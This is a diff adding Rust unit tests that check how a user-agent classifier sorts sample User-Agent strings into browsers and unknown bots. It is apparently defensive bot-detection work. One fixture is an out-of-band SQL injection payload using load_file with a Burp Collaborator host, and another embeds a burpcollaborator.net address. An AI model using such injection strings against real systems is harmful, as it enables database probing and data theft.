@@ -91,3 +91,178 @@ fn empty_user_agent_is_an_unknown_bot() {
     assert_eq!(m.match_ua(b"-"), UaMatch::Empty);
     assert_eq!(m.match_ua(b"-").class(&c), Class::UnknownBot);
 }
+
+fn is(ua: &str, name: &str, class: Class) {
+    let (got_name, got_class) = classify(ua);
+    assert_eq!((got_name.as_str(), got_class), (name, class), "{ua}");
+}
+
+#[test]
+fn mozilla_prefix_alone_is_not_a_platform() {
+    is(
+        "Mozilla/5.0 Keydrop",
+        "UnknownBot(\"no platform\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/5.0 infrawatch/0.1",
+        "UnknownBot(\"no platform\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn a_browser_engine_token_with_a_version_is_a_platform() {
+    is(
+        "Mozilla/5.0 (compatible; Konqueror/3.4; CYGWIN_NT-5.1) KHTML/3.4.89 (like Gecko)",
+        "Browser",
+        Class::Browser,
+    );
+    // A template with placeholders names no engine version.
+    is(
+        "Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion",
+        "UnknownBot(\"no platform\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn a_compatible_comment_without_a_platform_is_a_bot() {
+    is(
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; BW/1.2) Chrome/124.0.0.0 Safari/537.36",
+        "UnknownBot(\"compatible without platform\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322)",
+        "Browser",
+        Class::Browser,
+    );
+}
+
+#[test]
+fn an_obfuscated_email_address_is_a_bot_marker() {
+    is(
+        "Mozilla/5.0 (compatible; +centuryb.o.t9[at]gmail.com)",
+        "UnknownBot(\"[at]\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/5.0/Firefox/42.0 - nbertaupete95(at)gmail.com",
+        "UnknownBot(\"(at)\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:80.0) Gecko/20100101 Firefox/80.0 Measurement/2023 (contact; stijn; at; ucsb.edu;)",
+        "UnknownBot(\"; at;\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn an_email_host_may_start_with_a_digit() {
+    is(
+        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36 root@8f6gtjctw9.burpcollaborator.net",
+        "UnknownBot(\"@\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn a_host_name_is_a_bot_marker_but_not_an_app_id_or_a_versioned_product() {
+    is(
+        "Mozilla/5.0 (X11; Linux i586; rv:31.0) Gecko/20100101 Firefox/31.0 PrintFriendly.com",
+        "UnknownBot(\".com\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 com.example.app/1.0",
+        "Browser",
+        Class::Browser,
+    );
+    is(
+        "Mozilla/5.0 (Windows; U; Windows NT 6.0; de; rv:1.9.1.6) Gecko/20091201 (WEB.DE/1.5) Firefox/3.5.6 (.NET CLR 3.5.30729)",
+        "Browser",
+        Class::Browser,
+    );
+}
+
+#[test]
+fn a_homepage_beside_the_platform_is_not_a_bot_marker_but_a_page_is() {
+    is(
+        "XBMC/9.04-beta1 r19639 (Windows; Windows XP Professional Service Pack 2 build 2600; http://www.xbmc.org)",
+        "Browser",
+        Class::Browser,
+    );
+    is(
+        "Mozilla/5.0 (Windows NT 6.1; WOW64; https://top.mail.ru/passremind) AppleWebKit/537.22 (KHTML, like Gecko)",
+        "UnknownBot(\"https://\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn scanner_words_are_bot_markers_but_camscanner_is_an_app() {
+    is(
+        "Mozilla/5.0 OnlyScans",
+        "UnknownBot(\"scan\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ContentScan/3.0",
+        "UnknownBot(\"scan\")",
+        Class::UnknownBot,
+    );
+    is(
+        "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36 CamScanner/4.8.5.2310271827",
+        "Browser",
+        Class::Browser,
+    );
+}
+
+#[test]
+fn names_ending_in_what_a_program_does_are_bot_markers() {
+    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
+    is(
+        &format!("{chrome} AcmeImageProxy/1.0"),
+        "UnknownBot(\"proxy\")",
+        Class::UnknownBot,
+    );
+    is(
+        &format!("{chrome} AcmeAuditor"),
+        "UnknownBot(\"auditor\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn a_header_without_a_version_number_is_not_a_browser() {
+    is(
+        "Linux Gnu (cow)",
+        "UnknownBot(\"no version\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn a_millisecond_timestamp_as_a_version_is_a_bot_marker() {
+    is(
+        "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:77.0) Gecko/20100101 Firefox/77.0 Time/1710630666672",
+        "UnknownBot(\"time/\")",
+        Class::UnknownBot,
+    );
+}
+
+#[test]
+fn sql_injection_and_field_separators_are_bot_markers() {
+    is(
+        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.142 Safari/537.36'+(select load_file('x97.burpcollaborator.netszc'))+'",
+        "UnknownBot(\"(select \")",
+        Class::UnknownBot,
+    );
+    is(
+        "iphone|Mozilla/5.0 (iPhone; CPU iPhone OS 8_7_7; like Mac OS X) AppleWebKit/535.47 (KHTML, like Gecko)  Chrome/47.0.2531.349 Mobile Safari/533.7",
+        "UnknownBot(\"|\")",
+        Class::UnknownBot,
+    );
+}
